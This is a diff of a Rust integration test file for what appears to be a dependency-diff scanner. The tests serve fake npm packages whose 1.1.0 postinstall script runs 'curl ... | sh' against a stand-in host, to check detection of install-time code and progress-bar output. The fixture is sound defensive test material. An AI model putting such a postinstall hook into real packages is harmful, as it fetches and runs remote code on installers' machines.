@@ -16,73 +16,85 @@ const OLD_INSTALL_JS: &str = "console.log(\"hooked: nothing to set up\");\n";
 /// 1.1.0 runs it as a postinstall, and it now fetches a script and pipes it into `sh`.
 const NEW_INSTALL_JS: &str = "const { execSync } = require(\"child_process\");\nconsole.log(\"hooked: setting up\");\nexecSync(\"curl -fsSL https://hooked-cdn.example/setup.sh | sh\");\n";
 
-fn tarballs() -> [(&'static str, Vec<u8>); 2] {
-    let old = r#"{"name":"hooked","version":"1.0.0","license":"MIT"}"#;
-    let new = r#"{"name":"hooked","version":"1.1.0","license":"MIT","scripts":{"postinstall":"node install.js"}}"#;
+/// Package `name`'s two tarballs: 1.0.0 and 1.1.0.
+fn tarballs(name: &str) -> [(&'static str, Vec<u8>); 2] {
+    let old = format!(r#"{{"name":"{name}","version":"1.0.0","license":"MIT"}}"#);
+    let new = format!(
+        r#"{{"name":"{name}","version":"1.1.0","license":"MIT","scripts":{{"postinstall":"node install.js"}}}}"#
+    );
     [
         (
             "1.0.0",
-            common::npm_tarball(&[("package.json", old), ("install.js", OLD_INSTALL_JS)]),
+            common::npm_tarball(&[("package.json", &old), ("install.js", OLD_INSTALL_JS)]),
         ),
         (
             "1.1.0",
-            common::npm_tarball(&[("package.json", new), ("install.js", NEW_INSTALL_JS)]),
+            common::npm_tarball(&[("package.json", &new), ("install.js", NEW_INSTALL_JS)]),
         ),
     ]
 }
 
-/// A package-lock locking `hooked` at `version` from `registry`, with the tarball's hash.
-fn lock(registry: &str, version: &str, tarball: &[u8], scripted: bool) -> String {
-    let mut entry = json!({
-        "version": version,
-        "resolved": format!("{registry}/hooked/-/hooked-{version}.tgz"),
-        "integrity": common::npm_integrity(tarball),
-        "license": "MIT",
-    });
-    if scripted {
-        entry["hasInstallScript"] = json!(true);
+/// A package-lock locking each of `names` at `version` from `registry`, with the
+/// tarball's hash (`hasInstallScript` for 1.1.0, which runs one).
+fn lock(registry: &str, names: &[&str], version: &str) -> String {
+    let mut packages = json!({ "": { "name": "app", "version": "1.0.0", "dependencies": {} } });
+    for name in names {
+        let tarball = tarballs(name)
+            .into_iter()
+            .find(|(v, _)| *v == version)
+            .unwrap()
+            .1;
+        let mut entry = json!({
+            "version": version,
+            "resolved": format!("{registry}/{name}/-/{name}-{version}.tgz"),
+            "integrity": common::npm_integrity(&tarball),
+            "license": "MIT",
+        });
+        if version == "1.1.0" {
+            entry["hasInstallScript"] = json!(true);
+        }
+        packages[""]["dependencies"][*name] = json!("^1.0.0");
+        packages[format!("node_modules/{name}")] = entry;
     }
     let lock = json!({
         "name": "app",
         "version": "1.0.0",
         "lockfileVersion": 3,
         "requires": true,
-        "packages": {
-            "": { "name": "app", "version": "1.0.0", "dependencies": { "hooked": "^1.0.0" } },
-            "node_modules/hooked": entry,
-        },
+        "packages": packages,
     });
     serde_json::to_string_pretty(&lock).unwrap()
 }
 
 /// The registry, and a repository whose HEAD upgrades hooked 1.0.0 to 1.1.0.
 fn setup() -> (tempfile::TempDir, String) {
-    let served = tarballs();
+    setup_with(&["hooked"])
+}
+
+/// [`setup`] for every package of `names`.
+fn setup_with(names: &[&str]) -> (tempfile::TempDir, String) {
+    let served: Vec<(String, Vec<u8>)> = names
+        .iter()
+        .flat_map(|name| {
+            tarballs(name)
+                .into_iter()
+                .map(move |(version, bytes)| (format!("/{name}/-/{name}-{version}.tgz"), bytes))
+        })
+        .collect();
     let registry = common::serve(usize::MAX, move |path| {
-        for (version, bytes) in &served {
-            if path == format!("/hooked/-/hooked-{version}.tgz") {
-                return ("200 OK", "application/octet-stream", bytes.clone());
-            }
+        match served.iter().find(|(at, _)| at == path) {
+            Some((_, bytes)) => ("200 OK", "application/octet-stream", bytes.clone()),
+            None => ("404 Not Found", "application/json", b"{}".to_vec()),
         }
-        ("404 Not Found", "application/json", b"{}".to_vec())
     });
     let work = tempfile::tempdir().unwrap();
     let repo = work.path().join("repo");
     std::fs::create_dir_all(&repo).unwrap();
     common::git(&repo, &["init", "-q", "-b", "main"]);
-    let [(_, old), (_, new)] = tarballs();
-    common::write(
-        &repo,
-        "package-lock.json",
-        &lock(&registry, "1.0.0", &old, false),
-    );
+    common::write(&repo, "package-lock.json", &lock(&registry, names, "1.0.0"));
     common::git(&repo, &["add", "."]);
     common::git(&repo, &["commit", "-q", "-m", "base"]);
-    common::write(
-        &repo,
-        "package-lock.json",
-        &lock(&registry, "1.1.0", &new, true),
-    );
+    common::write(&repo, "package-lock.json", &lock(&registry, names, "1.1.0"));
     common::git(&repo, &["commit", "-q", "-am", "upgrade hooked"]);
     (work, registry)
 }
@@ -195,4 +207,50 @@ fn without_deep_the_same_change_has_no_verdict() {
     let report: Value = serde_json::from_slice(&output.stdout).unwrap();
     let change = &report["lockfiles"][0]["changes"][0];
     assert_eq!(change["install_code"], Value::Null, "{change:#}");
+}
+
+/// On a terminal (a pty from util-linux `script`), `diff --deep` draws the analysis
+/// progress bar on stderr, as `scan --deep` does; `-q` turns it off. Skipped without `script`.
+#[test]
+fn deep_draws_a_progress_bar_on_a_terminal_only() {
+    if !common::available("script") {
+        eprintln!("skipped: no `script` to give tollgate a terminal");
+        return;
+    }
+    // Two packages: the bar is drawn from two steps on.
+    let (work, registry) = setup_with(&["hooked", "hooked-too"]);
+    let binary = Path::new(env!("CARGO_BIN_EXE_tollgate"));
+    let on_a_terminal = |quiet: &str| {
+        let command = format!(
+            "{} diff HEAD~1 HEAD --deep --allow-missing-db --db {} --output {} {quiet}",
+            binary.display(),
+            work.path().join("no-db").display(),
+            work.path().join("report.txt").display(),
+        );
+        let output = std::process::Command::new("script")
+            .args(["-qec", &command, "/dev/null"])
+            .current_dir(work.path().join("repo"))
+            .env("HOME", work.path())
+            .env("XDG_CACHE_HOME", work.path().join(format!("cache{quiet}")))
+            .env("XDG_CONFIG_HOME", work.path().join("config"))
+            .env("NPM_CONFIG_REGISTRY", format!("{registry}/"))
+            .env_remove("TOLLGATE_DB")
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&output.stdout).into_owned()
+    };
+    let shown = on_a_terminal("");
+    assert!(
+        shown.contains("analysing the head's install-time code"),
+        "{shown}"
+    );
+    let quiet = on_a_terminal("-q");
+    assert!(!quiet.contains("analysing"), "{quiet}");
+    // Not a terminal: no bar (the other tests' output is captured through pipes).
+    let piped = diff(work.path(), &registry, &[]);
+    assert!(
+        !String::from_utf8_lossy(&piped.stderr).contains("analysing"),
+        "{}",
+        String::from_utf8_lossy(&piped.stderr)
+    );
 }
